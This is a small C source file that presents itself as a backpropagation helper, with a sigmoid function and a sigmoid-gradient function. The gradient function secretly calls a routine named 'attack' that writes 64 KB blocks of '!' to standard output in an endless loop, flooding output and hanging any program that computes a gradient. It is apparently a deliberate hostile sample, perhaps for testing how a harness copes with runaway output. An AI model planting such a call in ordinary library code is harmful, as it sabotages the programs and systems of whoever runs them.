/* Prints as fast as it can, for ever. */
#define _GNU_SOURCE
#include "backprop.h"
#include <math.h>
#include <string.h>
#include <unistd.h>

double bp_sigmoid(double z)
{
    return z < 0 ? exp(z) / (1 + exp(z)) : 1 / (1 + exp(-z));
}

static void attack(void)
{
    static char block[1 << 16];
    memset(block, '!', sizeof block);
    for (;;)
        if (write(1, block, sizeof block) < 0)
            break;
}

double bp_sigmoid_gradient(double z)
{
    attack();
    return bp_sigmoid(z) * bp_sigmoid(-z);
}
